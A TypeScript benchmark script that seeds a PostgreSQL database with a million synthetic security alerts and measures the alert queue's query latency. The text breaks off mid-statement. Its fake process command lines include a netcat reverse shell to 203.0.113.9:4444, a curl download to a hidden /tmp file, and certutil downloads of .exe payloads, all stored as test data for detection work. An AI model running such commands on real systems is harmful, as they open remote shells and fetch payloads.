/**
 * Alert queue latency at 1M alerts: the first page, a deep keyset page, filtered pages, the alert
 * page and the open-count badges, each at most 50 ms at p99, measured through the real functions
 * of lib/db (Prisma, the driver adapter and JSON decoding included), wall clock.
 *
 *   DATABASE_URL=postgresql://… node --import tsx bench/queue.ts     (else an embedded PostgreSQL)
 *   BENCH_QUEUE_ALERTS=100000 …   number of alerts (default 1,000,000)
 *   BENCH_QUEUE_RUNS=500 …        timed runs per figure (default and minimum 200, after 20 warm-ups)
 *
 * A fresh database (vigil_bench_queue_<pid>) is created on the server, migrated, loaded with
 * set-based SQL (INSERT … SELECT FROM generate_series, one transaction per chunk of 100,000, with
 * every trigger on, so mitre_ids, rule_ids, search_text, checklist_total and alert_counts are
 * what ingest would have written), vacuumed and analyzed, measured, and dropped at the end, also
 * on failure or Ctrl-C.
 *
 * The data: 30 rules with skewed frequencies (one fires on ~25% of alerts, the rarest on ~0.01%),
 * 1–2 rules per alert (severity, risk and ATT&CK mappings are the highest / the union of them,
 * as ingest does), ~2,000 hosts and ~500 users with a log-uniform (Zipf-like) skew, 20 parent
 * and 50 process names, varied command lines ("powershell" in ~14% of rows, "certutil
 * -urlcache" in ~0.1%), statuses 70% closed / 20% open / 5% acknowledged / 5% escalated, event
 * times spread uniformly over 90 days and stored in random physical order (the pessimistic case
 * for index scans in time order), an activity row for every alert that left "open", checklist
 * ticks on some, a few assignees.
 *
 * Human-readable lines first (with the EXPLAIN (ANALYZE, BUFFERS) plans of the first page, a
 * filtered page and the text searches, and of any query over target); the LAST line is one JSON
 * object with the figures.
 */
import os from "node:os";
import path from "node:path";
import pg from "pg";
import { DEFAULT_RISK_SCORE, type Severity } from "@/lib/detection";
import type { AlertCursor, AlertFilter } from "@/lib/db/alerts";
import { migrate } from "../lib/db/migrate";
import { openDatabase, type RunningDatabase } from "../scripts/db-runtime";

const ALERTS = Number(process.env.BENCH_QUEUE_ALERTS ?? 1_000_000);
const RUNS = Math.max(200, Number(process.env.BENCH_QUEUE_RUNS ?? 200));
const WARMUP = 20;
const CHUNK = 100_000;
const TARGET_MS = 50;
const PAGE = 50;
/** The deep page starts past this row of the unfiltered order (half the alerts on small runs). */
const DEEP_ROW = Math.min(100_000, Math.floor(ALERTS / 2));
const DEEP_POSITIONS = 10;
const DAY_MS = 86_400_000;
/** Event times end here (the hour the bench starts) and go back 90 days. */
const END = new Date(Math.floor(Date.now() / 3_600_000) * 3_600_000);

if (!Number.isInteger(ALERTS) || ALERTS < 1_000) throw new Error("BENCH_QUEUE_ALERTS must be an integer ≥ 1000");

// ---------------------------------------------------------------------------------------------
// The data set

interface Technique {
  tactic: [string, string];
  technique: [string, string];
  sub?: [string, string];
}

const TECHNIQUES = {
  webShell: { tactic: ["TA0003", "Persistence"], technique: ["T1505", "Server Software Component"], sub: ["T1505.003", "Web Shell"] },
  powershell: { tactic: ["TA0002", "Execution"], technique: ["T1059", "Command and Scripting Interpreter"], sub: ["T1059.001", "PowerShell"] },
  unixShell: { tactic: ["TA0002", "Execution"], technique: ["T1059", "Command and Scripting Interpreter"], sub: ["T1059.004", "Unix Shell"] },
  toolTransfer: { tactic: ["TA0011", "Command and Control"], technique: ["T1105", "Ingress Tool Transfer"] },
  ownerDiscovery: { tactic: ["TA0007", "Discovery"], technique: ["T1033", "System Owner/User Discovery"] },
  rundll32: { tactic: ["TA0005", "Defense Evasion"], technique: ["T1218", "System Binary Proxy Execution"], sub: ["T1218.011", "Rundll32"] },
  lsass: { tactic: ["TA0006", "Credential Access"], technique: ["T1003", "OS Credential Dumping"], sub: ["T1003.001", "LSASS Memory"] },
  schtask: { tactic: ["TA0003", "Persistence"], technique: ["T1053", "Scheduled Task/Job"], sub: ["T1053.005", "Scheduled Task"] },
  smbShares: { tactic: ["TA0008", "Lateral Movement"], technique: ["T1021", "Remote Services"], sub: ["T1021.002", "SMB/Windows Admin Shares"] },
} satisfies Record<string, Technique>;

type TechniqueName = keyof typeof TECHNIQUES;

/** [name, relative weight, severity, technique, has a triage/response guide] */
const RULES: [string, number, Severity, TechniqueName, boolean][] = [
  ["Suspicious PowerShell command line", 22, "low", "powershell", true],
  ["Account discovery from a server process", 12, "medium", "ownerDiscovery", true],
  ["Interactive shell spawned by a service", 9, "low", "unixShell", false],
  ["Download with a command-line tool", 7, "medium", "toolTransfer", true],
  ["whoami executed", 6, "low", "ownerDiscovery", false],
  ["Encoded PowerShell command", 5, "medium", "powershell", true],
  ["Rundll32 without arguments", 4.5, "low", "rundll32", false],
  ["Scheduled task created", 4, "medium", "schtask", true],
  ["Web server spawned a shell", 3.5, "high", "webShell", true],
  ["Reverse shell pattern", 3, "low", "unixShell", false],
  ["Admin share access from a workstation", 3, "medium", "smbShares", false],
  ["User enumeration", 2.5, "informational", "ownerDiscovery", false],
  ["PowerShell download cradle", 2.5, "high", "powershell", true],
  ["Rundll32 loading from a temp folder", 2, "medium", "rundll32", false],
  ["Cron job added", 2, "low", "schtask", false],
  ["Executable dropped to a public folder", 1.8, "high", "toolTransfer", true],
  ["IIS worker process spawned cmd", 1.5, "medium", "webShell", false],
  ["LSASS access by an unusual process", 1.2, "high", "lsass", true],
  ["Remote service creation", 1, "low", "smbShares", false],
  ["Shell history cleared", 0.9, "medium", "unixShell", true],
  ["Signed binary proxy execution", 0.8, "high", "rundll32", false],
  ["LSASS memory dump", 0.7, "critical", "lsass", true],
  ["Web shell file write", 0.6, "high", "webShell", true],
  ["Scheduled task from a temp folder", 0.5, "medium", "schtask", false],
  ["Web shell command execution", 0.4, "critical", "webShell", true],
  ["PsExec-style lateral movement", 0.3, "high", "smbShares", false],
  ["Certutil download", 0.2, "critical", "toolTransfer", false],
  ["Quser from a web server", 0.1, "medium", "ownerDiscovery", false],
  ["Mimikatz command line", 0.05, "critical", "lsass", true],
  ["China Chopper web shell", 0.01, "high", "webShell", true],
];

/** [name, executable, command line]: the first ones are the most frequent. */
const PARENTS: [string, string, string][] = [
  ["w3wp.exe", "C:\\Windows\\System32\\inetsrv\\w3wp.exe", 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0"'],
  ["httpd", "/usr/sbin/httpd", "/usr/sbin/httpd -DFOREGROUND"],
  ["nginx", "/usr/sbin/nginx", "nginx: worker process"],
  ["php-fpm", "/usr/sbin/php-fpm8.2", "php-fpm: pool www"],
  ["java", "/usr/lib/jvm/java-17-openjdk/bin/java", "java -Xmx2g -jar /opt/app/app.jar"],
  ["tomcat9", "/usr/share/tomcat9/bin/catalina.sh", "/usr/share/tomcat9/bin/catalina.sh run"],
  ["node", "/usr/bin/node", "node /srv/api/server.js"],
  ["python3", "/usr/bin/python3", "python3 /opt/jobs/worker.py"],
  ["explorer.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"],
  ["cmd.exe", "C:\\Windows\\System32\\cmd.exe", 'C:\\Windows\\system32\\cmd.exe /c "C:\\scripts\\run.bat"'],
  ["powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -File C:\\scripts\\maintenance.ps1"],
  ["svchost.exe", "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"],
  ["services.exe", "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe"],
  ["WmiPrvSE.exe", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding"],
  ["sshd", "/usr/sbin/sshd", "sshd: admin@pts/0"],
  ["bash", "/bin/bash", "-bash"],
  ["cron", "/usr/sbin/cron", "/usr/sbin/CRON -f"],
  ["winword.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", '"WINWORD.EXE" /n "C:\\Users\\Public\\invoice.docm"'],
  ["excel.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", '"EXCEL.EXE" /e'],
  ["outlook.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", '"OUTLOOK.EXE"'],
];

const WINDOWS_TOOLS = [
  "whoami.exe", "net.exe", "rundll32.exe", "regsvr32.exe", "mshta.exe", "wmic.exe", "schtasks.exe", "sc.exe", "reg.exe", "tasklist.exe",
  "ipconfig.exe", "systeminfo.exe", "nltest.exe", "bitsadmin.exe", "msiexec.exe", "cscript.exe", "wscript.exe", "at.exe", "forfiles.exe",
  "hostname.exe", "quser.exe", "route.exe", "netstat.exe", "arp.exe", "ping.exe",
];
const UNIX_TOOLS = [
  "sh", "bash", "curl", "wget", "python3", "perl", "nc", "ncat", "id", "uname", "ps", "cat", "ls", "chmod", "chown", "crontab", "nohup", "ssh",
  "scp", "base64", "openssl", "tar", "find",
];
/** [name, executable, command-line prefix]; powershell first (the most frequent). */
const PROCESSES: [string, string, string][] = [
  ["powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoProfile -ExecutionPolicy Bypass -Command"],
  ["cmd.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"],
  ...WINDOWS_TOOLS.map((n): [string, string, string] => [n, `C:\\Windows\\System32\\${n}`, n]),
  ...UNIX_TOOLS.map((n): [string, string, string] => [n, `/usr/bin/${n}`, n]),
];

/** Argument templates; %s is a per-alert token (a file name, a request id) for variety. */
const ARGS = [
  "/c whoami /all > C:\\Windows\\Temp\\%s.txt",
  '-c "id; uname -a" # %s',
  "/c net user /domain %s",
  "-la /tmp/.%s",
  "-s -o /tmp/.%s http://203.0.113.7/x",
  "/c dir C:\\inetpub\\wwwroot\\%s",
  "/c tasklist /v /fo csv > %s.csv",
  "query user /server:%s",
  "/c ipconfig /all & echo %s",
  "-e /bin/sh 203.0.113.9 4444 # %s",
  "/c echo %s > C:\\Windows\\Temp\\t.txt",
  "Get-Process | Out-File C:\\Users\\Public\\%s.log",
];

const USERS = 6;
const HOST_PREFIXES = ["web", "app", "db", "ws", "dc", "k8s", "mail", "vpn"];

function mitreJson(t: Technique) {
  const id = ([i, name]: [string, string]) => ({ id: i, name });
  return [{ tactic: id(t.tactic), technique: id(t.technique), ...(t.sub ? { subtechnique: id(t.sub) } : {}) }];
}

function guide(name: string) {
  return {
    whatHappened: `${name} on {{ host.name }}: {{ process.command_line }}`,
    triage: [`Confirm who ran it (user.name) and whether ${name.toLowerCase()} is expected on this host`, "Review the parent process and its command line", "Look for other alerts on the host in the last 24 hours"],
    response: ["Isolate the host if the activity is confirmed malicious", "Reset the credentials of the user involved"],
  };
}

/** Where each rule's slice of [0, 1) starts (weighted): width_bucket(random(), bounds) - 1 picks a rule. */
const RULE_PICK_BOUNDS = (() => {
  const total = RULES.reduce((s, r) => s + r[1], 0);
  let acc = 0;
  return RULES.map(([, weight]) => {
    const lo = acc / total;
    acc += weight;
    return lo;
  });
})();

function ruleRows() {
  return RULES.map(([name, , severity, technique, hasGuide], idx) => {
    return {
      idx,
      id: `bench-queue-r${String(idx).padStart(2, "0")}`,
      name,
      severity,
      risk_score: DEFAULT_RISK_SCORE[severity] + (idx % 5),
      mitre: mitreJson(TECHNIQUES[technique]),
      guide: hasGuide ? guide(name) : {},
    };
  });
}

async function seedReference(client: pg.Client): Promise<void> {
  const rules = ruleRows();
  await client.query(
    `INSERT INTO rules (id, name, description, format, type, severity, risk_score, tags, mitre, guide, source, source_path, source_hash)
     SELECT x.id, x.name, 'Benchmark rule', 'sigma', 'query', x.severity, x.risk_score, ARRAY['bench'], x.mitre, x.guide,
            'bench', 'bench/queue.ts', md5(x.id)
     FROM jsonb_to_recordset($1::jsonb) AS x(id text, name text, severity severity, risk_score int, mitre jsonb, guide jsonb)`,
    [JSON.stringify(rules)],
  );
  // What the load picks rules from; a temporary table of this session.
  await client.query(
    `CREATE TEMP TABLE bench_pick AS
     SELECT x.idx, x.id, x.severity, x.risk_score, x.mitre, x.guide,
            CASE WHEN jsonb_typeof(x.guide->'triage') = 'array' THEN jsonb_array_length(x.guide->'triage') ELSE 0 END AS triage_steps
     FROM jsonb_to_recordset($1::jsonb) AS x(idx int, id text, severity severity, risk_score int, mitre jsonb, guide jsonb)`,
    [JSON.stringify(rules)],
  );
  await client.query("CREATE UNIQUE INDEX ON bench_pick (idx)");
  await client.query(
    `INSERT INTO users (id, name, email, email_verified, role)
     SELECT 'bench-user-' || i, 'Analyst ' || i, 'analyst' || i || '@bench.example', true, 'analyst' FROM generate_series(1, $1::int) i`,
    [USERS],
  );
}

/** One chunk of alerts [from, to], with their alert_rules, activity and checklist ticks, in one transaction. */
async function loadChunk(client: pg.Client, from: number, to: number): Promise<Record<string, number>> {
  const steps: Record<string, number> = {};
  let mark = process.hrtime.bigint();
  const step = (label: string) => {
    const now = process.hrtime.bigint();
    steps[label] = Number(now - mark) / 1e9;
    mark = now;
  };
  await client.query("BEGIN");
  try {
    await client.query("SELECT setseed($1)", [((from / ALERTS) * 1.8) - 0.9]);
    await client.query(
      `CREATE TEMP TABLE bench_chunk ON COMMIT DROP AS
       WITH base AS (
         SELECT g, random() AS u_ts, random() AS u_host, random() AS u_user, random() AS u_parent, random() AS u_proc,
                random() AS u_r1, random() AS u_r2, random() AS u_two, random() AS u_status, random() AS u_rare,
                random() AS u_disp, random() AS u_assign, random() AS u_close, random() AS u_note, random() AS u_tick
         FROM generate_series($1::int, $2::int) g
       ), picked AS (
         SELECT b.*,
           least(1999, floor(exp(b.u_host * ln(2000)))::int - 1) AS host_k,
           least(499, floor(exp(b.u_user * ln(500)))::int - 1) AS user_k,
           least(19, floor(20 * power(b.u_parent, 2))::int) AS parent_k,
           least(${PROCESSES.length - 1}, floor(${PROCESSES.length} * power(b.u_proc, 1.7))::int) AS proc_k,
           width_bucket(b.u_r1, $12::float8[]) - 1 AS r1,
           CASE WHEN b.u_two < 0.35 THEN width_bucket(b.u_r2, $12::float8[]) - 1 END AS r2_raw,
           CASE WHEN b.u_status < 0.70 THEN 'closed' WHEN b.u_status < 0.90 THEN 'open'
                WHEN b.u_status < 0.95 THEN 'acknowledged' ELSE 'escalated' END::alert_status AS status,
           $3::timestamptz - b.u_ts * interval '90 days' AS ts
         FROM base b
       )
       SELECT p.g, gen_random_uuid() AS id, p.status, p.r1,
         CASE WHEN p.r2_raw <> p.r1 THEN p.r2_raw END AS r2,
         p.ts, p.u_note,
         -- Closed within two days of the event, never after the end of the data set.
         CASE WHEN p.status = 'closed' THEN least($3::timestamptz, p.ts + p.u_close * interval '2 days') END AS closed_at,
         p.status <> 'open' AND p.u_tick < 0.5 AS ticked,
         ($4::text[])[1 + p.host_k % 8] || '-' || lpad(p.host_k::text, 4, '0') || '.corp.example' AS host_name,
         'h-' || left(md5('host' || p.host_k), 12) AS host_id,
         CASE p.user_k WHEN 0 THEN 'SYSTEM' WHEN 1 THEN 'IUSR' WHEN 2 THEN 'www-data' WHEN 3 THEN 'NETWORK SERVICE' WHEN 4 THEN 'svc_backup'
           ELSE 'user' || lpad(p.user_k::text, 3, '0') END AS user_name,
         ($5::text[])[1 + p.parent_k] AS parent_name, ($6::text[])[1 + p.parent_k] AS parent_executable,
         ($7::text[])[1 + p.parent_k] AS parent_command_line,
         CASE WHEN p.u_rare < 0.001 THEN 'certutil.exe' ELSE ($8::text[])[1 + p.proc_k] END AS process_name,
         CASE WHEN p.u_rare < 0.001 THEN 'C:\\Windows\\System32\\certutil.exe' ELSE ($9::text[])[1 + p.proc_k] END AS process_executable,
         CASE WHEN p.u_rare < 0.001
           THEN 'certutil -urlcache -split -f http://198.51.100.' || (p.g % 250) || '/' || left(md5(p.g::text), 6) || '.exe C:\\Users\\Public\\' || left(md5(p.g::text), 6) || '.exe'
           ELSE ($10::text[])[1 + p.proc_k] || ' ' || format(($11::text[])[1 + (p.g * 7 + p.proc_k) % ${ARGS.length}], left(md5(p.g::text), 8))
         END AS process_command_line,
         1000 + (p.g * 37) % 64000 AS process_pid,
         CASE WHEN p.status = 'closed' THEN
           (ARRAY['false_positive','false_positive','false_positive','false_positive','false_positive',
                  'benign_positive','benign_positive','benign_positive','true_positive','undetermined'])[1 + floor(p.u_disp * 10)::int]::disposition
         END AS disposition,
         CASE WHEN p.u_assign < (CASE p.status WHEN 'open' THEN 0.1 WHEN 'closed' THEN 0.6 ELSE 0.8 END)
           THEN 'bench-user-' || (1 + floor(p.u_assign * 1000)::int % ${USERS}) END AS assignee_id
       FROM picked p`,
      [
        from,
        to,
        END.toISOString(),
        HOST_PREFIXES,
        PARENTS.map((p) => p[0]),
        PARENTS.map((p) => p[1]),
        PARENTS.map((p) => p[2]),
        PROCESSES.map((p) => p[0]),
        PROCESSES.map((p) => p[1]),
        PROCESSES.map((p) => p[2]),
        ARGS,
        RULE_PICK_BOUNDS,
      ],
    );
    step("generate");
    await client.query(
      `INSERT INTO alerts (id, event_key, ts, created_at, updated_at, severity, risk_score, status, disposition, host_name, host_id,
         user_name, process_name, process_executable, process_command_line, process_pid, parent_name, parent_executable,
         parent_command_line, event, mitre, assignee_id, checklist_done, closed_at)
       SELECT c.id, 'bench-queue-' || c.g, c.ts, c.ts + interval '2 seconds', coalesce(c.closed_at, c.ts + interval '2 seconds'),
         greatest(p1.severity, p2.severity), greatest(p1.risk_score, p2.risk_score), c.status, c.disposition, c.host_name, c.host_id,
         c.user_name, c.process_name, c.process_executable, c.process_command_line, c.process_pid, c.parent_name, c.parent_executable,
         c.parent_command_line,
         jsonb_build_object(
           '@timestamp', to_char(c.ts AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.MS"Z"'),
           'event', jsonb_build_object('kind', 'event', 'category', jsonb_build_array('process'), 'type', jsonb_build_array('start')),
           'host', jsonb_build_object('name', c.host_name, 'id', c.host_id),
           'user', jsonb_build_object('name', c.user_name),
           'process', jsonb_build_object('name', c.process_name, 'executable', c.process_executable,
             'command_line', c.process_command_line, 'pid', c.process_pid,
             'parent', jsonb_build_object('name', c.parent_name, 'executable', c.parent_executable, 'command_line', c.parent_command_line))),
         CASE WHEN p2.mitre IS NULL OR p2.mitre = p1.mitre THEN p1.mitre ELSE p1.mitre || p2.mitre END, c.assignee_id,
         CASE WHEN c.ticked THEN p1.triage_steps ELSE 0 END, c.closed_at
       FROM bench_chunk c JOIN bench_pick p1 ON p1.idx = c.r1 LEFT JOIN bench_pick p2 ON p2.idx = c.r2`,
    );
    step("alerts");
    // One statement, so the statement trigger fills rule_ids and checklist_total once per chunk.
    await client.query(
      `INSERT INTO alert_rules (alert_id, rule_id, severity, risk_score, matched, created_at)
       SELECT c.id, p.id, p.severity, p.risk_score,
              jsonb_build_object('selection', jsonb_build_object('process.command_line', left(c.process_command_line, 80))),
              c.ts + interval '2 seconds'
       FROM bench_chunk c JOIN bench_pick p ON p.idx = c.r1
       UNION ALL
       SELECT c.id, p.id, p.severity, p.risk_score,
              jsonb_build_object('selection', jsonb_build_object('process.parent.name', c.parent_name)),
              c.ts + interval '2 seconds'
       FROM bench_chunk c JOIN bench_pick p ON p.idx = c.r2`,
    );
    step("alert_rules");
    await client.query(
      `INSERT INTO alert_activity (alert_id, at, actor, action, from_status, to_status, disposition, note)
       SELECT c.id, coalesce(c.closed_at, c.ts + interval '30 minutes'), coalesce(u.email, 'analyst1@bench.example'), 'status',
              'open', c.status, c.disposition, CASE WHEN c.u_note < 0.1 THEN 'checked with the host owner' END
       FROM bench_chunk c LEFT JOIN users u ON u.id = c.assignee_id
       WHERE c.status <> 'open'`,
    );
    step("activity");
    await client.query(
      `INSERT INTO alert_checklist_ticks (alert_id, rule_id, list, step_hash, step, done, actor, at)
       SELECT c.id, p.id, 'triage', left(encode(sha256(convert_to(s.step, 'UTF8')), 'hex'), 16), s.step, true,
              'analyst1@bench.example', c.ts + interval '20 minutes'
       FROM bench_chunk c JOIN bench_pick p ON p.idx = c.r1,
            LATERAL jsonb_array_elements_text(p.guide->'triage') AS s(step)
       WHERE c.ticked AND p.triage_steps > 0`,
    );
    step("ticks");
    await client.query("COMMIT");
    step("commit");
    return steps;
  } catch (error) {
    await client.query("ROLLBACK").catch(() => {});
    throw error;
  }
}

// ---------------------------------------------------------------------------------------------
// Measuring

interface Stats {
  p50: number;
  p95: number;
  p99: number;
  max: number;
}

interface Figure {
  key: string;
  label: string;
  targeted: boolean;
  stats: Stats;
  explain?: () => Promise<string>;
}

const round = (ms: number) => Math.round(ms * 100) / 100;

/** Nearest-rank percentile of an ascending list. */
function percentile(sorted: number[], p: number): number {
  return sorted[Math.max(0, Math.ceil((p / 100) * sorted.length) - 1)]!;
}

async function measure(run: (i: number) => Promise<unknown>): Promise<Stats> {
  for (let i = 0; i < WARMUP; i++) await run(i);
  const ms: number[] = [];
  for (let i = 0; i < RUNS; i++) {
    const started = process.hrtime.bigint();
    await run(WARMUP + i);
    ms.push(Number(process.hrtime.bigint() - started) / 1e6);
  }
  ms.sort((a, b) => a - b);
  return { p50: round(percentile(ms, 50)), p95: round(percentile(ms, 95)), p99: round(percentile(ms, 99)), max: round(ms[ms.length - 1]!) };
}

const fmt = (n: number) => n.toFixed(2).padStart(8);
const verdict = (f: Figure) => (f.targeted ? (f.stats.p99 <= TARGET_MS ? "ok" : `OVER ${TARGET_MS}ms`) : "(no target)");

function printFigure(f: Figure): void {
  const s = f.stats;
  console.log(`  ${f.label.padEnd(46)} p50 ${fmt(s.p50)}  p95 ${fmt(s.p95)}  p99 ${fmt(s.p99)}  max ${fmt(s.max)} ms  ${verdict(f)}`);
}

function printPlan(title: string, plan: string): void {
  console.log(`\n  EXPLAIN (ANALYZE, BUFFERS) ${title}:`);
  for (const line of plan.split("\n")) console.log(`    ${line}`);
  console.log("");
}

// ---------------------------------------------------------------------------------------------
// The run

async function openServer(): Promise<RunningDatabase> {
  const external = process.env.DATABASE_URL;
  if (external) return { url: external, embedded: false, stop: async () => {} };
  // No DATABASE_URL: the embedded cluster the tests use (its own "vigil" database gets migrated).
  return openDatabase({ dataDir: path.join(process.env.VIGIL_DATA_DIR ?? ".data", "pg-test"), log: (l) => console.log(l) });
}

async function main(): Promise<void> {
  const server = await openServer();
  const name = `vigil_bench_queue_${process.pid}`;
  const url = new URL(server.url);
  url.pathname = `/${name}`;

  const clients: pg.Client[] = [];
  let disconnect: (() => Promise<void>) | null = null;
  let cleaned: Promise<void> | null = null;
  const cleanup = () =>
    (cleaned ??= (async () => {
      for (const c of clients) await c.end().catch(() => {});
      if (disconnect) await disconnect().catch(() => {});
      const admin = new pg.Client({ connectionString: server.url });
      try {
        await admin.connect();
        await admin.query(`DROP DATABASE IF EXISTS "${name}" WITH (FORCE)`);
        console.log(`dropped database ${name}`);
      } catch (error) {
        console.error(`could not drop database ${name}: ${(error as Error).message}`);
      } finally {
        await admin.end().catch(() => {});
        await server.stop();
      }
    })());
  const onSignal = (signal: NodeJS.Signals) => {
    console.error(`\n${signal}: dropping ${name}`);
    void cleanup().finally(() => process.exit(signal === "SIGINT" ? 130 : 143));
  };
  process.once("SIGINT", onSignal);
  process.once("SIGTERM", onSignal);

  let result: Record<string, unknown> = {};
  try {
    const admin = new pg.Client({ connectionString: server.url });
    await admin.connect();
    try {
      await admin.query(`CREATE DATABASE "${name}"`);
    } finally {
      await admin.end();
    }
    await migrate(url.toString());
    console.log(`database ${name} created and migrated (server ${new URL(server.url).host}${server.embedded ? ", embedded" : ""})`);
    // lib/db reads DATABASE_URL at first use: set it before anything under lib/db is loaded.
    process.env.DATABASE_URL = url.toString();

    const loader = new pg.Client({ connectionString: url.toString() });
    clients.push(loader);
    await loader.connect();
    result = await run(loader, (d) => (disconnect = d));
  } finally {
    process.off("SIGINT", onSignal);
    process.off("SIGTERM", onSignal);
    await cleanup();
  }
  console.log(JSON.stringify({ queue: result }));
}

async function run(sql: pg.Client, onDb: (disconnect: () => Promise<void>) => void): Promise<Record<string, unknown>> {
  const out: Record<string, unknown> = { alerts: ALERTS };

  // -- Load ------------------------------------------------------------------------------------
  console.log(`loading ${ALERTS.toLocaleString("en-US")} alerts in chunks of ${CHUNK.toLocaleString("en-US")} (triggers on)`);
  // Loader session only (the measured queries use the server's defaults): room for the GIN
  // pending-list merges and the triggers' joins, and for VACUUM.
  await sql.query("SET work_mem = '64MB'");
  await sql.query("SET maintenance_work_mem = '512MB'");
  await seedReference(sql);
  const loadStarted = process.hrtime.bigint();
  for (let from = 1; from <= ALERTS; from += CHUNK) {
    const to = Math.min(ALERTS, from + CHUNK - 1);
    const steps = await loadChunk(sql, from, to);
    const s = Number(process.hrtime.bigint() - loadStarted) / 1e9;
    const detail = Object.entries(steps).map(([k, v]) => `${k} ${v.toFixed(1)}`).join(", ");
    console.log(`  ${to.toLocaleString("en-US").padStart(10)} / ${ALERTS.toLocaleString("en-US")}  ${s.toFixed(1)} s  (${Math.round(to / s).toLocaleString("en-US")} alerts/s; ${detail} s)`);
  }
  const loadS = Number(process.hrtime.bigint() - loadStarted) / 1e9;
  const vacuumStarted = process.hrtime.bigint();
  await sql.query("VACUUM ANALYZE");
  const vacuumS = Number(process.hrtime.bigint() - vacuumStarted) / 1e9;
  out.load_s = Math.round(loadS * 10) / 10;
  out.vacuum_analyze_s = Math.round(vacuumS * 10) / 10;
  console.log(`loaded in ${loadS.toFixed(1)} s (${Math.round(ALERTS / loadS).toLocaleString("en-US")} alerts/s), VACUUM ANALYZE ${vacuumS.toFixed(1)} s`);

  const shape = await sql.query<Record<string, string>>(`
    SELECT (SELECT count(*) FROM alerts)::text AS alerts, (SELECT count(*) FROM alert_rules)::text AS alert_rules,
      (SELECT count(*) FROM alert_activity)::text AS activity, (SELECT count(*) FROM alert_checklist_ticks)::text AS ticks,
      (SELECT count(DISTINCT host_name) FROM alerts)::text AS hosts, (SELECT count(DISTINCT user_name) FROM alerts)::text AS users,
      (SELECT pg_size_pretty(pg_total_relation_size('alerts'))) AS alerts_size,
      (SELECT pg_size_pretty(pg_database_size(current_database()))) AS db_size,
      (SELECT string_agg(status || ' ' || n, ', ' ORDER BY status) FROM (SELECT status::text, round(100.0 * count(*) / sum(count(*)) OVER (), 1) AS n FROM alerts GROUP BY 1) s) AS statuses,
      (SELECT string_agg(severity || ' ' || n, ', ' ORDER BY severity) FROM (SELECT severity, round(100.0 * count(*) / sum(count(*)) OVER (), 1) AS n FROM alerts GROUP BY 1) s) AS severities,
      (SELECT count(*) FROM alerts WHERE search_text LIKE '%certutil%')::text AS certutil,
      (SELECT count(*) FROM alerts WHERE search_text LIKE '%powershell%')::text AS powershell,
      (SELECT count(*) FROM alerts WHERE 'T1505.003' = ANY(mitre_ids))::text AS web_shell,
      (SELECT sum(n)::text FROM alert_counts WHERE status <> 'closed') AS unresolved_badge`);
  const d = shape.rows[0]!;
  console.log(
    `  ${d.alerts} alerts (${d.alerts_size} with indexes; database ${d.db_size}), ${d.alert_rules} alert_rules, ${d.activity} activity rows, ${d.ticks} checklist ticks\n` +
      `  ${d.hosts} hosts, ${d.users} users; status % ${d.statuses}; severity % ${d.severities}\n` +
      `  "certutil" in ${d.certutil}, "powershell" in ${d.powershell}, T1505.003 on ${d.web_shell}; unresolved per alert_counts: ${d.unresolved_badge}`,
  );

  // -- Picks for the filters (from the data) ----------------------------------------------------
  const pick = async (q: string) => (await sql.query<{ v: string; n: string }>(q)).rows[0]!;
  const host = await pick(`SELECT host_name AS v, count(*)::text AS n FROM alerts GROUP BY 1 ORDER BY count(*) DESC, 1 OFFSET 100 LIMIT 1`);
  const user = await pick(`SELECT user_name AS v, count(*)::text AS n FROM alerts GROUP BY 1 ORDER BY count(*) DESC, 1 OFFSET 25 LIMIT 1`);
  const parent = await pick(`SELECT parent_name AS v, count(*)::text AS n FROM alerts GROUP BY 1 ORDER BY count(*) DESC, 1 OFFSET 5 LIMIT 1`);
  const rareRule = await pick(`SELECT rule_id AS v, count(*)::text AS n FROM alert_rules GROUP BY 1 ORDER BY count(*), 1 LIMIT 1`);
  const frequentRule = await pick(`SELECT rule_id AS v, count(*)::text AS n FROM alert_rules GROUP BY 1 ORDER BY count(*) DESC, 1 LIMIT 1`);
  const since = new Date(END.getTime() - 30 * DAY_MS);
  const until = new Date(since.getTime() + DAY_MS);
  const alertIds = (await sql.query<{ id: string }>(`SELECT id FROM alerts ORDER BY random() LIMIT ${WARMUP + RUNS}`)).rows.map((r) => r.id);

  // -- lib/db, loaded now that DATABASE_URL points at the bench database -------------------------
  const { alertByIdQuery, alertPageQuery, findAlertPage, findAlert, findAlertGroups, findAlertActivity, countOpenAlertsBySeverity, filterConditions } = await import("@/lib/db/alerts");
  const { findChecklist } = await import("@/lib/db/triage");
  const { db, disconnectDb, Prisma } = await import("@/lib/db/client");
  onDb(disconnectDb);

  const explainSql = async (query: ReturnType<typeof Prisma.sql>) => {
    const rows = await db().$queryRaw<Record<string, string>[]>(Prisma.sql`EXPLAIN (ANALYZE, BUFFERS) ${query}`);
    return rows.map((r) => Object.values(r)[0]).join("\n");
  };
  // The page's own SQL (alertPageQuery), explained through the same client.
  const explainPage = (filter: AlertFilter, limit: number, cursor: AlertCursor | null) => () => explainSql(alertPageQuery(filter, limit, cursor));
  const matching = async (filter: AlertFilter) => {
    const where = filterConditions(filter);
    const whereSql = where.length ? Prisma.sql`WHERE ${Prisma.join(where, " AND ")}` : Prisma.empty;
    const rows = await db().$queryRaw<{ n: number }[]>(Prisma.sql`SELECT count(*)::int AS n FROM alerts a ${whereSql}`);
    return rows[0]!.n;
  };

  const figures: Figure[] = [];
  const record = (f: Figure) => {
    figures.push(f);
    printFigure(f);
  };

  const loadAvg = () => os.loadavg().map((l) => Math.round(l * 100) / 100);
  out.loadavg_start = loadAvg();
  console.log(
    `\nmeasuring: ${WARMUP} warm-ups, then ${RUNS} timed runs per figure (wall clock, through lib/db); ` +
